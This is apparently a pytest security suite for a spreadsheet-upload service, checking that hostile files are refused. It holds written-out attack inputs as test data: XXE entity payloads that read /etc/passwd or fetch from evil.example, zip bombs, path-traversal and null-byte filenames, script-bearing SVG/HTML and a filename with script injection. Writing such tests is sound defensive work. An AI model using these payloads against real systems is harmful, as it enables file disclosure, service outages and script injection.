"""Files that were made to do harm: bombs, entities, loops, names with paths, pictures that are programs."""

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from shell.projector import Projector
from shell.queue.tables import JOBS
from shell.queue.worker import work_off
from shell.workbooks import Unreadable, read_workbook
from tests.architecture.test_permissions import World
from tests.security.walking import Place, address, come_in, places
from tests.workshops.make_sheets import HEADINGS, SHEET1, rewritten, xlsx

pytestmark = pytest.mark.usefixtures("unhurried")

GOOD = xlsx([HEADINGS, ["2026-11-06", "G01", "金灯花", "灯笼", "骨架", 40]])
BOOK, RELATED = "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
PARTS = [BOOK, RELATED, SHEET1, "xl/sharedStrings.xml", "xl/styles.xml", "_rels/.rels"]
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"><script>steal()</script></svg>'
TAKE_FILES = [place for place in places() if "{file}" in (place.form or {}).values()]


def refused(data: bytes) -> str:
    """The word a file is refused with."""
    with pytest.raises(Unreadable) as refusal:
        read_workbook(data)
    return refusal.value.code


def test_the_workbook_these_are_made_from_is_read() -> None:
    """So that what follows is refused for what was done to it."""
    assert [grid.rows[2][1] for grid in read_workbook(GOOD)] == ["G01"]


@pytest.mark.parametrize("part", PARTS)
@pytest.mark.parametrize(
    "declared",
    [
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]>',
    ],
    ids=["expanding", "from a file", "type from elsewhere", "parameter"],
)
def test_no_part_may_declare_what_a_reader_would_fetch_or_unfold(part: str, declared: bytes) -> None:
    """A document type in any part of a workbook: the file is refused, nothing is opened or unfolded."""
    assert refused(
        rewritten(GOOD, part, lambda xml: re.sub(rb"^(<\?xml.*?\?>)?", rb"\1" + declared, xml, count=1))
    ) == ("file-unreadable")


def test_a_sheet_named_a_hundred_thousand_times_is_read_once() -> None:
    """A small file must not make us read one large part over and over."""
    many = rewritten(GOOD, BOOK, lambda xml: re.sub(rb"(<sheet [^>]*/>)", rb"\1" * 100_000, xml))
    assert refused(many) == "file-unreadable"


def test_a_part_that_is_related_twice_is_refused() -> None:
    """Likewise under another id, for sheets and for texts."""
    for kind in (rb"worksheet", rb"sharedStrings"):

        def twice(xml: bytes, kind: bytes = kind) -> bytes:
            (one,) = re.findall(rb"<Relationship [^>]*/" + kind + rb'"[^>]*/>', xml)
            return xml.replace(one, one + re.sub(rb'Id="[^"]*"', b'Id="again"', one))

        assert refused(rewritten(GOOD, RELATED, twice)) == "file-unreadable"


def test_the_name_of_a_sheet_stays_short() -> None:
    """It stands beside every mistake that is told: a megabyte of it would be told fifty thousand times."""
    named = rewritten(
        GOOD, BOOK, lambda xml: re.sub(rb'(<sheet [^>]*?name=")[^"]*', rb"\g<1>" + b"x" * 10**6, xml)
    )
    assert [len(grid.name) for grid in read_workbook(named)] == [31]


def test_a_bomb_that_lies_about_its_size_is_noticed() -> None:
    """Each part says how large it is; one that is larger is damaged, whatever it holds."""
    packed, size = io.BytesIO(), 50_000_011
    with (
        zipfile.ZipFile(io.BytesIO(GOOD)) as sound,
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as package,
    ):
        for name in sound.namelist():
            package.writestr(name, b"<worksheet>" + bytes(size - 11) if name == SHEET1 else sound.read(name))
    bomb = packed.getvalue()
    lying = bomb.replace(size.to_bytes(4, "little"), (1000).to_bytes(4, "little"))
    assert lying != bomb
    assert refused(lying) == "file-unreadable"
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w", zipfile.ZIP_DEFLATED) as package:
        for number in range(11):
            package.writestr(f"xl/{number}", bytes(10_000_000))
    assert refused(many.getvalue()) == "file-too-large"


@pytest.mark.parametrize(
    "target", ["../../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "http://evil.example/"]
)
def test_a_part_is_looked_for_in_the_package_only(target: str) -> None:
    """A relation that leads out of the file finds nothing."""
    out = rewritten(
        GOOD, RELATED, lambda xml: re.sub(rb'Target="worksheets[^"]*"', f'Target="{target}"'.encode(), xml)
    )
    assert refused(out) == "file-unreadable"


def send(world: World, place: Place, data: bytes, filename: str) -> tuple[int, str]:
    """Send a file; the status, and what came back."""
    client, along = come_in(world, place)
    form = place.form or {}
    field = next(name for name, value in form.items() if value == "{file}")
    sent = dict(world._filled(dict(form))) | {field: (io.BytesIO(data), filename)}
    answer = client.open(address(world, place), method=place.method, data=sent, **along)
    return answer.status_code, answer.text


def errors_of(world: World, job: str) -> list[str]:
    """The mistakes a job found."""
    Projector(world.house).catch_up()
    work_off(world.house)
    with world.house.records_engine.connect() as connection:
        row = connection.execute(JOBS.select().where(JOBS.c.id == job)).mappings().one()
    assert row["state"] == "done"
    return [error["code"] for error in row["errors"]]


@pytest.mark.parametrize("place", TAKE_FILES, ids=str)
@pytest.mark.parametrize(
    "data",
    [
        SVG,
        b"<html><script>steal()</script></html>",
        b"\x7fELF" + bytes(200),
        b"GIF89a/*" + bytes(50),
        b"%PDF-1.7\n",
    ],
    ids=["svg", "html", "program", "picture", "paper"],
)
def test_what_is_no_sheet_is_no_sheet_under_any_name(
    world: World, no_proof: None, place: Place, data: bytes
) -> None:
    """What a file is, its bytes say: a drawing called .xlsx is refused, and nothing of it is ever served."""
    status, text = send(world, place, data, "名单.xlsx")
    if place.rule.endswith("/results"):  # short enough to be read while the bank's customer waits
        assert (status, "file-unreadable" in text) == (422, True)
        return
    if place.rule.endswith("/photos"):  # looked at at once, too
        assert (status, "photo-unreadable" in text) == (422, True)
        return
    assert status == 202
    assert "file-unreadable" in errors_of(world, re.findall(r'"job":\s*"([^"]+)"', text)[0])


@pytest.mark.parametrize(
    "filename",
    [
        "../../../../tmp/planted.csv",
        "..\\..\\planted.csv",
        "/etc/cron.d/planted",
        "C:\\planted.csv",
        "planted.csv\x00.exe",
        "planted.<script>alert(1)</script>",
        "p" * 5000 + ".csv",
        "\u202evsc.planted",
        "planted.csv; filename=other",
        ".",
        "..",
    ],
)
def test_the_name_of_a_file_is_nothing_but_a_name(
    world: World, no_proof: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, filename: str
) -> None:
    """With a path in it, a program or no end: nothing is written under it, and pages show it as text."""
    monkeypatch.chdir(tmp_path)
    for place in TAKE_FILES:
        status, _ = send(world, place, "日期,工号\n".encode(), filename)
        assert status in (202, 409, 422), str(place)
    page = next(place for place in places("POST", api=False) if place.rule.endswith("/import"))._replace(
        caller="C"
    )
    client, along = come_in(world, page)
    data = {"file": (io.BytesIO("日期,工号\n".encode()), filename)}
    answer = client.post(address(world, page), data=data, **along)
    assert answer.status_code in (303, 422)
    if answer.status_code == 303:
        shown = client.get(answer.location, **along).text
        assert "<script>alert" not in shown
        assert len(max(shown.split(), key=len)) < 3000
    assert not [*tmp_path.rglob("*planted*")]
    with world.house.records_engine.connect() as connection:
        kept = str(connection.execute(JOBS.select()).mappings().all())
    assert "planted" not in kept


def test_a_file_of_more_than_twenty_megabytes_is_too_large(world: World, no_proof: None) -> None:
    """413 before it is read."""
    for place in TAKE_FILES:
        client, along = come_in(world, place)
        answer = client.open(
            address(world, place),
            method=place.method,
            data=bytes(21 * 1024 * 1024),
            content_type="multipart/form-data; boundary=x",
            **along,
        )
        assert answer.status_code == 413, str(place)


def test_numbers_that_are_none_are_no_counts() -> None:
    """A cell said to be a number may hold NaN, infinity or something without end: read, or refused."""
    change: Callable[[bytes], bytes]
    for value in (b"nan", b"inf", b"-inf", b"1e999", b"9" * 5000, b"1_0", b"0x10"):
        change = lambda xml, value=value: re.sub(rb"<v>40</v>", b"<v>" + value + b"</v>", xml)  # noqa: E731
        try:
            read_workbook(rewritten(GOOD, SHEET1, change))
        except Unreadable as refusal:
            assert refusal.code == "file-unreadable"  # noqa: PT017
